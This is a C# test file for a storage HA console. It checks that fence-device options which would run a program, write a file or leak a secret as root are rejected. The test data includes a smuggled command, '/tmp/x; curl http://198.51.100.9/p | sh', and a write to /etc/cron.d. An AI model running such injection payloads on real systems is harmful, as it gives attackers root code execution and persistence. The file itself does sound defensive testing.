using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using StorageHa.Server.Tests.Shared;
using StorageHa.Shared.Fencing;
using StorageHa.Shared.Inventory;
using StorageHa.TestSupport;

namespace StorageHa.Server.Tests.Fencing;

/// <summary>
/// An operator may set fence devices, and `pcs stonith create` hands their options to the agent as root on every node:
/// the console takes only the agent's own options, never one that runs a program, writes a file or carries a secret.
/// </summary>
public sealed class FenceOptionAttackTests : IDisposable
{
    private readonly TestConsole _console = new();

    [Theory]
    [InlineData("password_script", "/tmp/x; curl http://198.51.100.9/p | sh", "run a program as root")]
    [InlineData("debug_file", "/etc/cron.d/owned", "write a file as root")]
    [InlineData("secret_key", "s3cr3t", "fence secret")]
    [InlineData("not_an_option", "1", "is not an option of fence_ipmilan")]
    public async Task AnOperatorsFenceOption_ThatTheAgentWouldRunWriteOrLeak_IsRefusedBySettingsAndSpecImport_AndNothingIsStored(
        string option, string value, string message)
    {
        var op = await _console.ClientAsAsync(Role.Operator);
        var created = await op.PostAsJsonAsync("/api/clusters", new { name = "fenced" });
        var id = (await created.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();
        var device = new { name = "ipmi1", agent = "fence_ipmilan", options = new Dictionary<string, string> { ["ip"] = "192.0.2.201", [option] = value } };

        var settings = await op.PutAsJsonAsync($"/api/clusters/{id}/settings", new { fencing = new { devices = new[] { device } } });
        var spec = await op.PutAsJsonAsync($"/api/clusters/{id}/spec", new { name = "fenced", fencing = new { devices = new[] { device } } });

        foreach (var refused in new[] { settings, spec })
        {
            Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);
            var body = await refused.Content.ReadAsStringAsync();
            Assert.Contains($"fencing.devices[0].options.{option}", body);
            Assert.Contains(message, body);
        }
        var stored = await op.GetStringAsync($"/api/clusters/{id}/spec");
        Assert.DoesNotContain(option, stored);
    }

    [Theory]
    [InlineData("fence_ipmilan")]
    [InlineData("fence_virsh")]
    [InlineData("fence_sbd")]
    public void TheEmbeddedMetadata_IsStillWhatTheInstalledAgentSays(string agent)
    {
        RequiredTool.Require(new RequiredTool(agent, "fence-agents"));
        var installed = LocalMetadata(agent);

        Assert.True(installed == FenceAgent.Metadata(agent),
            $"{agent} -o metadata differs from src/Shared/Fencing/Metadata/{agent}.xml: the installed fence-agents changed its options. " +
            $"Review the difference (new options pass only if the rules let them), then refresh the snapshot: {agent} -o metadata > src/Shared/Fencing/Metadata/{agent}.xml");
    }

    private static string LocalMetadata(string agent)
    {
        using var process = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(new RequiredTool(agent, "fence-agents").Find()!, ["-o", "metadata"])
        {
            RedirectStandardOutput = true, RedirectStandardError = true,
        })!;
        var output = process.StandardOutput.ReadToEnd();
        process.StandardError.ReadToEnd();
        process.WaitForExit();
        Assert.Equal(0, process.ExitCode);
        return output;
    }

    public void Dispose() => _console.Dispose();
}
